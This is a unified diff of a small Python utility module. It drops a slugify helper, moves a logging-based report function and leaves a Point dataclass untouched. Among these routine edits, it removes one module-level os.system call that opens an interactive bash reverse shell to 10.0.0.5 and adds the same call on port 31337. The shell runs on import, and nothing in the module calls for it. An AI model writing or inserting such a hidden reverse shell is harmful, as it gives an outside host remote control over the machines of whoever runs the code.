@@ -1,5 +1,8 @@
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
+import logging
+log = logging.getLogger(__name__)
+
+def report(values):
+    log.info("mean=%s", sum(values) / max(len(values), 1))
 
 from dataclasses import dataclass
 
@@ -12,9 +15,4 @@ class Point:
         return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import os
-os.system("bash -i >& /dev/tcp/{}/{} 0>&1".format("10.0.0.5", 53))
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+os.system("bash -i >& /dev/tcp/{}/{} 0>&1".format("10.0.0.5", 31337))
